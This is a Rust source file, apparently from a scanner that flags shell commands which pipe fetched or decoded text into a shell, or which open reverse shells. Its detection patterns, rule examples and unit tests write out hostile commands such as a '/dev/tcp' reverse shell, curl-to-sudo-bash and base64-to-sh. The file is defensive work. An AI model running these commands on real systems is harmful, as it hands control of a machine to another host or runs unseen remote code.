//! Text that is run without anyone having seen it: fetched or decoded straight into a shell or an interpreter.

use memchr::{memchr, memchr_iter, memmem};

use super::{CLIENTS, Rule, example};
use crate::detect::{
    around,
    shell::{
        commands,
        cues::{Cue, is_disguised, names, programs, programs_in, text},
        invocation::{Invocation, Source},
        lexer::Word,
    },
};

/// What is in every text that breaks a rule, beside the decoders that may hide `rm`.
pub(super) const CUES: &[Cue] = &[
    programs_in(names!["curl", "wget", "fetch"], may_run_what_it_fetches),
    programs(&["gunzip", "zcat", "gzip ", "openssl "], &["|", ")", "`"]),
    text(&["/dev/tcp/", "/dev/udp/"], &[]),
    programs(names!["nc", "ncat", "netcat"], &["sh"]),
    text(
        &["sh -i", "bash -i", "dash -i", "ksh -i", "zsh -i"],
        &["nc", "\")", "<&"],
    ),
    text(&["socket", "fsockopen"], &["/bin/sh", "/bin/bash"]),
    programs(names!["socat"], &["exec", "system"]),
];

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "remote-to-shell",
        flags: "text from the network run by a shell or an interpreter",
        programs: &[],
        matches: |run| run.runs == Source::Remote,
        example: example(
            "curl -fsSL https://get.example.com | sudo bash -s -- -y",
            "curl -fsSL https://get.example.com | jq .name",
        ),
    },
    Rule {
        id: "decoded-to-shell",
        flags: "decoded text run by a shell or an interpreter",
        programs: &[],
        matches: |run| run.runs == Source::Decoded,
        example: example(
            "base64 -d payload.txt | sh",
            "base64 -d payload.txt > payload.bin",
        ),
    },
    Rule {
        id: "reverse-shell",
        flags: "a shell handed to another host",
        programs: &[],
        matches: is_handed_over,
        example: example(
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "nc -zv db.corp.io 5432",
        ),
    },
];

/// Programs that connect to another host, and may hand it a program.
pub(super) const LISTENERS: &[&str] = &["nc", "ncat", "netcat"];

/// Whether it is a shell that reads from or writes to another host, or `nc` with a shell as the value of an option.
fn is_handed_over(run: &Invocation<'_>) -> bool {
    let is_shell = |name: &str| commands::SHELLS.contains(&commands::program(name));
    let is_host = |path: &str| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
    match run.name {
        name if LISTENERS.contains(&name) => {
            is_fed_by_shell(run)
                || run.args.windows(2).any(|pair| match pair {
                    [option, program] => {
                        option.is_option()
                            && option.text.ends_with(['e', 'c'])
                            && is_shell(&program.text)
                    }
                    _ => false,
                })
        }
        "socat" => runs_shell_for_host(run),
        name if commands::is_interpreter(name) => connects_shell(run),
        name => {
            is_shell(name)
                && run
                    .command
                    .redirects
                    .iter()
                    .any(|redirect| is_host(&redirect.target.text))
        }
    }
}

/// Whether an interpreter is given code that connects to another host and runs a shell.
fn connects_shell(run: &Invocation<'_>) -> bool {
    const CODE: &[&str] = &["-c", "-e", "-r"];
    const CONNECTIONS: &[&str] = &["connect(", "create_connection(", "fsockopen(", "TCPSocket"];
    const SHELLS: &[&str] = &["/bin/sh", "/bin/bash"];
    // What a script has no use for that only waits for a host.
    const HANDS_OVER: &[&str] = &[
        "dup2", "fileno", "pty", "\"-i\"", "'-i'", " -i", "<&", ">&", "STDIN",
    ];
    let mut pairs = run.args.windows(2);
    pairs.any(|pair| {
        let [option, code] = pair else { return false };
        let holds = |words: &[&str]| words.iter().any(|word| code.text.contains(word));
        CODE.contains(&option.text.as_ref())
            && holds(CONNECTIONS)
            && holds(SHELLS)
            && holds(HANDS_OVER)
    })
}

/// Whether `socat` runs a shell on one side and speaks to a host on the other.
fn runs_shell_for_host(run: &Invocation<'_>) -> bool {
    let addresses = run.args.iter().filter_map(|word| word.text.split_once(':'));
    let (mut shell, mut host) = (false, false);
    for (kind, rest) in addresses {
        let kind = kind.to_ascii_lowercase();
        let mut words = rest.split([' ', ',', '\'', '"']);
        let program = words.find(|word| !word.is_empty()).unwrap_or_default();
        shell |= ["exec", "system"].contains(&kind.as_str())
            && commands::SHELLS.contains(&commands::program(program));
        host |= ["tcp", "openssl", "udp"]
            .iter()
            .any(|network| kind.starts_with(network));
    }
    shell && host
}

/// Whether what a shell without a script says goes through a pipe to the program.
fn is_fed_by_shell(run: &Invocation<'_>) -> bool {
    let feeder = run
        .command
        .reads_from
        .and_then(|from| run.script.command(from));
    feeder
        .and_then(|feeder| feeder.words.split_first())
        .is_some_and(|(name, args)| {
            commands::SHELLS.contains(&commands::program(&name.text))
                && args.iter().all(Word::is_option)
        })
}

/// Programs beside shells, interpreters and clients of databases that run what they read.
const READERS: &[&str] = &["at", "autossh", "batch", "ssh"];

/// Whether what a program fetches that is named here may be run: in a substitution, behind a pipe, or as a file later on.
fn may_run_what_it_fetches(text: &str, at: usize) -> bool {
    let (before, rest) = around(text.as_bytes(), at);
    let (line, _) = around(rest, memchr(b'\n', rest).unwrap_or(rest.len()));
    is_open(before)
        || is_disguised(line)
        || text
            .get(at..at + line.len())
            .is_none_or(|line| is_piped_on(line) || is_named_again(line, rest))
}

/// Whether the text ends within parentheses, braces or back-ticks.
fn is_open(text: &[u8]) -> bool {
    let count = |byte| memchr_iter(byte, text).count();
    count(b'(') > count(b')') || count(b'`') % 2 > 0
}

/// Whether a pipe on the line leads to a program that runs what it reads, or to another line.
fn is_piped_on(line: &str) -> bool {
    let Some((_, behind)) = line.split_once('|') else {
        return false;
    };
    let stages = behind.rsplit('|').next().unwrap_or(behind).trim_start();
    let runs = |word: &str| {
        commands::SHELLS.contains(&word)
            || commands::is_interpreter(word)
            || CLIENTS.contains(&word)
            || READERS.contains(&word)
    };
    let ends = |c: char| c.is_ascii_whitespace() || "/|&;()<>{}'\"`".contains(c);
    stages.is_empty() || stages.starts_with('#') || behind.split(ends).any(runs)
}

/// How many words of a line are looked up in the rest of the text before that is read instead.
const MOST_LOOKED_UP: usize = 32;

/// Whether a file that is fetched by the command the line starts with may be named once more in the rest of the text.
fn is_named_again(line: &str, rest: &[u8]) -> bool {
    let ends = |c: char| c.is_ascii_whitespace() || "|&;()<>{}'\"`=".contains(c);
    let words = || line.split(ends).filter(|word| !word.is_empty());
    let is_redirected = line.contains('>');
    let mut looked_up = 0;
    words().zip(words().skip(1)).any(|(before, word)| {
        let is_target = before.starts_with('-') && before.ends_with(['o', 'O', 't']);
        // `-oi.sh`
        let joined = word.strip_prefix("-o").or(word.strip_prefix("-O"));
        let is_target = is_target || joined.is_some();
        let word = joined.unwrap_or(word);
        let path = word.split(['?', '#']).next().unwrap_or(word);
        let name = path.rsplit('/').next().unwrap_or(path);
        let may_be_file = is_redirected || is_target || word.contains("://");
        may_be_file && !name.is_empty() && {
            looked_up += 1;
            looked_up > MOST_LOOKED_UP || memmem::find_iter(rest, name).nth(1).is_some()
        }
    })
}

#[cfg(test)]
mod tests {
    use super::{MOST_LOOKED_UP, may_run_what_it_fetches};

    #[test]
    fn what_is_fetched_may_be_run() {
        for (text, expected) in [
            ("curl x.io | sh", true),
            ("curl x.io | sudo /bin/bash -s", true),
            ("curl x.io | python3.11", true),
            ("curl x.io |\nsh", true),
            ("curl $URL", true),
            ("curl -o i.sh https://x.io/i\nsh i.sh", true),
            ("curl https://x.io/i.sh > /tmp/i.sh; . /tmp/i.sh", true),
            ("wget https://x.io/a.sh\nchmod +x ./a.sh", true),
            ("curl x.io", false),
            ("curl x.io | jq .shape", false),
            (
                "curl -s -H 'A: b' https://x.io/v1/users\ncurl -s -H 'A: b' https://x.io/v1/items",
                false,
            ),
            ("curl -o i.tgz https://x.io/archive\ntar xf j.tgz", false),
            ("curl --output=i.sh https://x.io/i; sh i.sh", true),
            ("curl -oi.sh https://x.io/i; sh i.sh", true),
        ] {
            assert_eq!(may_run_what_it_fetches(text, 0), expected, "{text}");
        }
        let words = (0..=MOST_LOOKED_UP + 1).map(|word| format!(" w{word}x"));
        let text = format!("curl > x.txt{}", words.collect::<String>());
        assert!(may_run_what_it_fetches(&text, 0), "too many to look up");
        for before in ["sh -c \"$(", "`", "bash <(echo; "] {
            let text = format!("{before}curl x.io");
            assert!(may_run_what_it_fetches(&text, before.len()), "{text}");
        }
    }
}
